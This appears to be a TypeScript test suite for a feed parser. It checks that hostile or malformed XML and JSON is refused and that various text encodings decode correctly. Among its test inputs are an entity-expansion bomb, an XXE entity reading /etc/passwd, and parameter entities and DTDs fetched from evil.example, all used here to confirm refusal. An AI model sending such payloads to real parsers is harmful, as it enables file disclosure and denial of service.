import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FormatError } from "../../errors.ts";
import { PAYLOADS } from "../../testing/hostile-text.ts";
import type { ReadDrafts } from "../source.ts";
import { parseFeed } from "./parse-feed.ts";
import { LIMITS } from "./xml/limits.ts";

async function parse(content: string | Uint8Array, url: string | null = null): Promise<ReadDrafts> {
  return parseFeed(
    typeof content === "string" ? new TextEncoder().encode(content) : content,
    "feed.xml",
    url,
  );
}

/** An RSS feed around the inside of its only item. */
function rssWith(item: string, head = ""): string {
  return `${head}<rss version="2.0"><channel><title>T</title><item>${item}</item></channel></rss>`;
}

async function titlesOf(content: string | Uint8Array): Promise<readonly (string | null)[]> {
  const { drafts } = await parse(content);
  return drafts.map(({ title }) => title);
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`,
).join("")}]>`;

describe("parseFeed()", () => {
  it.each([
    ["a bomb of entities", "xml-declaration-refused", rssWith("<title>&a8;</title>", LAUGHS)],
    [
      "an external entity",
      "xml-declaration-refused",
      rssWith("<title>&x;</title>", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ],
    [
      "a parameter entity",
      "xml-declaration-refused",
      rssWith("", '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
    ],
    [
      "an external document type",
      "xml-declaration-refused",
      rssWith("", '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">'),
    ],
    [
      "Netscape's document type with declarations of its own",
      "xml-declaration-refused",
      rssWith(
        "",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" [<!ENTITY x "y">]>',
      ),
    ],
    ["an entity outside a document type", "xml-declaration-refused", rssWith('<!ENTITY x "y">')],
    ["elements nested without end", "xml-too-large", rssWith("<a>".repeat(100_000))],
    ["a huge attribute", "xml-too-large", rssWith(`<a b="${"x".repeat(LIMITS.attributeLength + 1)}"/>`)],
    [
      "a crowd of attributes",
      "xml-too-large",
      rssWith(`<a ${Array.from({ length: 1_000 }, (_, n) => `a${n}=""`).join(" ")}/>`),
    ],
    ["a huge name", "xml-too-large", rssWith(`<${"a".repeat(10_000)}/>`)],
    ["a flood of elements", "xml-too-large", rssWith("<a/>".repeat(LIMITS.elements))],
    ["a file beyond all bounds", "file-too-large", new Uint8Array(LIMITS.bytes + 1)],
    ["NUL", "xml-forbidden-character", rssWith("<title>a\0b</title>")],
    ["NUL as a reference", "xml-forbidden-character", rssWith("<title>a&#0;b</title>")],
    ["NUL in CDATA", "xml-forbidden-character", rssWith("<title><![CDATA[\0]]></title>")],
    ["an escape character in an attribute", "xml-forbidden-character", rssWith('<a b="&#x1B;"/>')],
    ["half a surrogate pair", "xml-forbidden-character", rssWith("<title>&#xD800;</title>")],
    ["a reference beyond Unicode", "xml-forbidden-character", rssWith("<title>&#99999999;</title>")],
    ["CDATA that never ends", "xml-malformed", rssWith("<title><![CDATA[x")],
    ["a comment that never ends", "xml-malformed", rssWith("<!-- x")],
    ["an attribute that never ends", "xml-malformed", rssWith('<a b="')],
    ["an attribute twice", "xml-malformed", rssWith('<a b="1" b="2"/>')],
    ["tags that cross", "xml-malformed", rssWith("<title><b></title></b>")],
    ["a tag too many", "xml-malformed", `${rssWith("")}</rss>`],
    ["two roots", "xml-malformed", rssWith("").repeat(2)],
    ["text after the end", "xml-malformed", `${rssWith("")}tail`],
    ["a feed that is cut off", "xml-malformed", rssWith("").slice(0, -20)],
    ["a bare <", "xml-malformed", rssWith("<title>1 < 2</title>")],
    ["a web page", "is-html", "<!DOCTYPE html><html><body>Log in</body></html>"],
    ["a piece of a web page", "is-html", "<head><title>Moved</title></head>"],
    ["a list of feeds", "not-a-feed", '<?xml version="1.0"?><opml version="2.0"/>'],
    ["plain text", "not-a-feed", "Not found"],
    ["other JSON", "not-a-feed", '{"title":"x","entries":[]}'],
    ["broken JSON", "json-malformed", '{"version":"https://jsonfeed.org/version/1.1","items":['],
    ["nothing", "empty-file", ""],
    [
      "bytes that are not the UTF-8 they are said to be",
      "wrong-encoding",
      Buffer.from(`<?xml version="1.0" encoding="utf-8"?>${rssWith("<title>caf\u00e9</title>")}`, "latin1"),
    ],
    [
      "single bytes that are said to be UTF-16",
      "wrong-encoding",
      `<?xml version="1.0" encoding="utf-16"?>${rssWith("")}`,
    ],
    [
      "a byte order mark before what is no UTF-8",
      "wrong-encoding",
      Buffer.concat([Buffer.from("efbbbf", "hex"), Buffer.from(rssWith("\u00e9"), "latin1")]),
    ],
    ["an unknown encoding", "unknown-encoding", `<?xml version="1.0" encoding="klingon"?>${rssWith("")}`],
  ])("refuses %s as %s, with the mend", async (_, code, content) => {
    const error: unknown = await parse(content).catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(FormatError);
    expect(error).toMatchObject({
      code,
      message: expect.stringContaining("feed.xml"),
      hint: expect.stringMatching(/\S/),
    });
  });

  it("names line and column of what it refuses", async () => {
    await expect(parse(rssWith("\n\n  <a b='1' b='2'/>"))).rejects.toThrow("line 3, column 11:");
  });

  it("never expands an entity that nobody declared", async () => {
    expect(await titlesOf(rssWith("<title>&lol; &amp;lol;</title>"))).toEqual(["&lol; &lol;"]);
  });

  it.each([
    ["UTF-8 with its mark", Buffer.from(`\uFEFF${rssWith("<title>Žluť</title>")}`)],
    ["UTF-16 little-endian", Buffer.from(`\uFEFF${rssWith("<title>Žluť</title>")}`, "utf16le")],
    ["UTF-16 little-endian without a mark", Buffer.from(rssWith("<title>Žluť</title>"), "utf16le")],
    ["UTF-16 big-endian", Buffer.from(`\uFEFF${rssWith("<title>Žluť</title>")}`, "utf16le").swap16()],
    [
      "Windows-1250, declared",
      Buffer.concat([
        Buffer.from('<?xml version="1.0" encoding="windows-1250"?>'),
        Buffer.from(rssWith("<title>\u008Elu\u009D</title>"), "latin1"),
      ]),
    ],
  ])("decodes %s", async (_, bytes) => {
    expect(await titlesOf(bytes)).toEqual(["Žluť"]);
  });

  it("reads what declares nothing and is not UTF-8 as Windows-1252, and says so", async () => {
    const { drafts, findings } = await parse(Buffer.from(rssWith("<title>caf\u00e9</title>"), "latin1"));
    expect(drafts).toMatchObject([{ title: "café" }]);
    expect(findings).toMatchObject([{ level: "warning", code: "encoding-guessed" }]);
  });

  it("reports items outside the channel instead of losing them", async () => {
    const { drafts, findings } = await parse(
      "<rss><channel><item><title>1</title></item></channel><channel><item><title>2</title></item></channel></rss>",
    );
    expect(drafts).toHaveLength(1);
    expect(findings).toMatchObject([
      { level: "held", code: "item-not-read", place: { where: "item 2, line 1" } },
    ]);
  });

  it("says that a feed has no items", async () => {
    const { drafts, findings } = await parse(
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title></feed>',
    );
    expect(drafts).toEqual([]);
    expect(findings).toMatchObject([{ code: "empty-file" }]);
  });

  it("makes links whole with the address a feed was fetched from, where the feed says nothing", async () => {
    const feed = rssWith('<link>a</link><description>&lt;img src="b.png"&gt;</description>');
    expect((await parse(feed, "https://acme.example/x/feed")).drafts).toMatchObject([
      { link: "https://acme.example/x/a", body: '<img src="https://acme.example/x/b.png">' },
    ]);
    expect((await parse(feed)).drafts).toMatchObject([{ link: "a", body: '<img src="b.png">' }]);
  });

  it("lets texts through as they are, escaped or in CDATA, decoded once", async () => {
    // What XML cannot hold is refused, which other tests are about; space around a text does not count.
    const texts = PAYLOADS.filter(
      (text) => !/\p{C}|\r/u.test(text.replaceAll(/[\n\t\u2060\u202E]/g, "")) && text.trim() === text,
    );
    const escape = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
    const split = (text: string): string => `<![CDATA[${text.replaceAll("]]>", "]]]]><![CDATA[>")}]]>`;
    const items = texts.flatMap((text) => [escape(text), split(text)]);
    const feed = `<rss><channel>${items.map((item) => `<item><title>${item}</title></item>`).join("")}</channel></rss>`;
    expect(await titlesOf(feed)).toEqual(texts.flatMap((text) => [text, text]));
  });

  it("throws nothing but FormatError, whatever the bytes are", async () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "<rss>",
        "</rss>",
        "<channel>",
        "<item>",
        "</item>",
        "<title>",
        "</title>",
        "<feed xmlns='http://www.w3.org/2005/Atom'>",
        "<entry>",
        "<content type='xhtml'>",
        "<div xmlns='http://www.w3.org/1999/xhtml'>",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<!DOCTYPE",
        "<?xml",
        "?>",
        "&amp;",
        "&#x",
        "<__proto__>",
        "<constructor a='b'/>",
        "xml:base='",
        '{"version":"https://jsonfeed.org/version/1.1","items":[',
        "{}",
        "]}",
        '"',
      ),
      fc.string({ unit: "binary", maxLength: 8 }),
    );
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 200 }),
      fc.array(piece, { maxLength: 12 }).map((pieces) => Buffer.from(pieces.join(""))),
      // Well-formed, with anything for names and values.
      fc
        .array(
          fc.tuple(fc.constantFrom("title", "link", "guid", "pubDate", "__proto__", "toString"), fc.string()),
        )
        .map((children) =>
          Buffer.from(
            rssWith(
              children.map(([name, text]) => `<${name}>${text.replaceAll(/[<&]/g, "")}</${name}>`).join(""),
            ),
          ),
        ),
    );
    await fc.assert(
      fc.asyncProperty(bytes, async (content) => {
        const outcome: unknown = await parse(content).catch((thrown: unknown) => thrown);
        expect(outcome instanceof Error ? outcome.constructor : Object).toBe(
          outcome instanceof Error ? FormatError : Object,
        );
      }),
      { numRuns: 2_000, seed: 20_140_301 },
    );
  });
});
